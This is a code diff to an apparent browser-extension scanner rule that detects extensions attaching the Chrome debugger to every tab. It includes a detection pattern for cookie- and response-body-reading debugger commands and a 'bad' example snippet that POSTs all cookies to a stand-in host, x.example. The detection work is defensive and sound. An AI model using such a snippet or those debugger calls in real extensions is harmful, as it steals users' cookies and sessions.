@@ -1,6 +1,7 @@
-import { callsOf, constant } from '../../facts/javascript/query.ts';
+import { callsOf, constant, keysOf } from '../../facts/javascript/query.ts';
 import { defineRule } from '../../rule.ts';
 import { backgroundExample, checkScripts } from './checkScripts.ts';
+import { originsOf } from './origins.ts';
 import { leavesBy } from './sendings.ts';
 import { callsWithin, few, functionOf } from './usage.ts';
 
@@ -23,7 +24,11 @@ export const debuggerOnEveryTab = defineRule({
       const fn = functionOf(script, call.args[0] ?? 0);
       return fn === undefined ? [] : callsWithin(script, fn).map((inner) => inner.value);
     }));
-    for (const call of callsOf(script, 'chrome.debugger.attach')) if (alone.has(call.value)) yield hit(call.value);
+    const all = new Set(callsOf(script, 'chrome.tabs.query').filter((call) => keysOf(script, call.args[0] ?? 0).length === 0).map((call) => call.value));
+    for (const call of callsOf(script, 'chrome.debugger.attach')) {
+      const origins = all.size === 0 ? undefined : originsOf(script, call.args[0] ?? 0);
+      if (alone.has(call.value) || [...all].some((query) => origins?.has(query) === true)) yield hit(call.value);
+    }
     for (const call of callsOf(script, 'chrome.debugger.sendCommand')) {
       if (!/^(Network\.getResponseBody|Network\.getAllCookies|Network\.getCookies|Storage\.getCookies|Fetch\.getResponseBody|Network\.getRequestPostData)$/.test(constant(script, call.args[1] ?? 0) ?? '')) continue;
       const out = leavesBy(script, new Set([call.value]), ['network']);
@@ -36,6 +41,7 @@ export const debuggerOnEveryTab = defineRule({
       backgroundExample('chrome.debugger.sendCommand({ tabId }, "Network.getAllCookies", {}, (r) => { fetch("https://x.example/c", { method: "POST", body: JSON.stringify(r.cookies) }); });'),
     ],
     good: [
+      backgroundExample('chrome.action.onClicked.addListener(async () => { const [tab] = await chrome.tabs.query({ active: true, currentWindow: true }); chrome.debugger.attach({ tabId: tab.id }, "1.3"); });'),
       backgroundExample('chrome.action.onClicked.addListener((tab) => { chrome.debugger.attach({ tabId: tab.id }, "1.3"); });'),
       backgroundExample('chrome.tabs.onUpdated.addListener((id) => badge(id)); chrome.debugger.onDetach.addListener(stop); chrome.debugger.sendCommand(t, "Network.getAllCookies", {}, (r) => show(r));'),
     ],
